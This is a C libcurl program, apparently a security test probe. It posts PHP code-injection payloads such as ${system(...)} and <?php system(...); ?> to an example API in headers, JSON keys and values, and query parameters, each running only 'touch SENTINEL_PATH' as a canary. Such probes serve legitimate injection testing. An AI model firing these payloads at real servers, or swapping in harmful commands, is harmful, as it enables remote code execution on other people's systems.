#include <curl/curl.h>
#include <stdio.h>
#include <string.h>

int main(void)
{
    CURL *curl = curl_easy_init();
    if (!curl)
        return 1;

    struct curl_slist *headers = NULL;
    headers = curl_slist_append(headers, "Content-Type: application/json");
    headers = curl_slist_append(headers, "Authorization: Bearer {${system('touch SENTINEL_PATH')}}");
    headers = curl_slist_append(headers, "X-Payload-0: {${system('touch SENTINEL_PATH')}}");
    headers = curl_slist_append(headers, "X-Payload-1: ${system('touch SENTINEL_PATH')}");
    headers = curl_slist_append(headers, "X-Payload-2: ' . system('touch SENTINEL_PATH') . '");
    headers = curl_slist_append(headers, "X-Payload-3: \" . system(\"touch SENTINEL_PATH\") . \"");
    headers = curl_slist_append(headers, "X-Payload-4: <?php system(\"touch SENTINEL_PATH\"); ?>");

    const char *body =
        "{\n"
        "  \"values\": [\n"
        "    \"{${system('touch SENTINEL_PATH')}}\",\n"
        "    \"${system('touch SENTINEL_PATH')}\",\n"
        "    \"' . system('touch SENTINEL_PATH') . '\",\n"
        "    \"\\\" . system(\\\"touch SENTINEL_PATH\\\") . \\\"\",\n"
        "    \"<?php system(\\\"touch SENTINEL_PATH\\\"); ?>\"\n"
        "  ],\n"
        "  \"keys\": {\n"
        "    \"{${system('touch SENTINEL_PATH')}}\": 0,\n"
        "    \"${system('touch SENTINEL_PATH')}\": 1,\n"
        "    \"' . system('touch SENTINEL_PATH') . '\": 2,\n"
        "    \"\\\" . system(\\\"touch SENTINEL_PATH\\\") . \\\"\": 3,\n"
        "    \"<?php system(\\\"touch SENTINEL_PATH\\\"); ?>\": 4\n"
        "  },\n"
        "  \"nested\": {\n"
        "    \"deeper\": [\n"
        "      {\n"
        "        \"text\": \"{${system('touch SENTINEL_PATH')}} ${system('touch SENTINEL_PATH')} ' . system('touch SENTINEL_PATH') . ' \\\" . system(\\\"touch SENTINEL_PATH\\\") . \\\" <?php system(\\\"touch SENTINEL_PATH\\\"); ?>\"\n"
        "      }\n"
        "    ]\n"
        "  }\n"
        "}";

    curl_easy_setopt(curl, CURLOPT_URL, "https://api.example.com/v1/payloads?value0=%7B%24%7Bsystem%28%27touch%20SENTINEL_PATH%27%29%7D%7D&%7B%24%7Bsystem%28%27touch%20SENTINEL_PATH%27%29%7D%7D=key0&value1=%24%7Bsystem%28%27touch%20SENTINEL_PATH%27%29%7D&%24%7Bsystem%28%27touch%20SENTINEL_PATH%27%29%7D=key1&value2=%27%20.%20system%28%27touch%20SENTINEL_PATH%27%29%20.%20%27&%27%20.%20system%28%27touch%20SENTINEL_PATH%27%29%20.%20%27=key2&value3=%22%20.%20system%28%22touch%20SENTINEL_PATH%22%29%20.%20%22&%22%20.%20system%28%22touch%20SENTINEL_PATH%22%29%20.%20%22=key3&value4=%3C%3Fphp%20system%28%22touch%20SENTINEL_PATH%22%29%3B%20%3F%3E&%3C%3Fphp%20system%28%22touch%20SENTINEL_PATH%22%29%3B%20%3F%3E=key4");
    curl_easy_setopt(curl, CURLOPT_HTTPHEADER, headers);
    curl_easy_setopt(curl, CURLOPT_POSTFIELDS, body);
    curl_easy_setopt(curl, CURLOPT_POSTFIELDSIZE, (long)strlen(body));

    CURLcode res = curl_easy_perform(curl);
    if (res != CURLE_OK)
        fprintf(stderr, "curl: %s\n", curl_easy_strerror(res));

    curl_slist_free_all(headers);
    curl_easy_cleanup(curl);
    return res == CURLE_OK ? 0 : 1;
}
